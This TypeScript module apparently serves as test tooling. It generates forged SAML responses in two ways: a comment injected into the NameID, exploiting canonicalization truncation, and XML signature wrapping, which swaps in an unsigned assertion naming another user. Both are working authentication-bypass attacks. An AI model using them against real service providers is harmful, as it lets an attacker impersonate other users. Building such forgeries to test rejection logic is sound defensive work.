import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * Attacks on a response the identity provider signed, made after signing as an attacker
 * holding a genuine response would make them.
 */

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

function parse(xml: string) {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function firstChild(parent: Element, ns: string, localName: string): Element | undefined {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    if (node.nodeType === 1) {
      const element = node as unknown as Element;
      if (element.namespaceURI === ns && element.localName === localName) return element;
    }
  }
  return undefined;
}

/**
 * `<!---->` put inside the NameID's text at `at`: exclusive canonicalization drops comments,
 * so the signature still holds (the CVE-2017-11427 family); a reader that stops at the
 * first text node sees only the part before the comment.
 */
export function commentInsideNameId(responseXml: string, at: number): string {
  return responseXml.replace(
    /(<saml:NameID[^>]*>)([^<]*)(<\/saml:NameID>)/,
    (_, open: string, value: string, close: string) =>
      `${open}${value.slice(0, at)}<!---->${value.slice(at)}${close}`,
  );
}

/**
 * XML signature wrapping: the signed assertion is moved, untouched, into the response's
 * Extensions, where its signature still verifies; an unsigned copy naming another user (and
 * with another ID) takes its place where the SP reads. An SP that checks "a valid signature
 * somewhere" and reads "the assertion" signs that other user in.
 */
export function wrapSignature(responseXml: string, evilNameId: string): string {
  const doc = parse(responseXml);
  const response = doc.documentElement as unknown as Element;
  const signed = firstChild(response, SAML, 'Assertion');
  const signature = signed && firstChild(signed, DS, 'Signature');
  if (!signed || !signature) throw new Error('no signed assertion to wrap');
  const evil = signed.cloneNode(true) as Element;
  evil.removeChild(firstChild(evil, DS, 'Signature')!);
  evil.setAttribute('ID', `_evil${signed.getAttribute('ID')}`);
  firstChild(firstChild(evil, SAML, 'Subject')!, SAML, 'NameID')!.textContent = evilNameId;
  const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
  response.replaceChild(evil, signed as never);
  extensions.appendChild(signed as never);
  response.insertBefore(extensions, firstChild(response, SAMLP, 'Status') as never);
  return new XMLSerializer().serializeToString(doc);
}
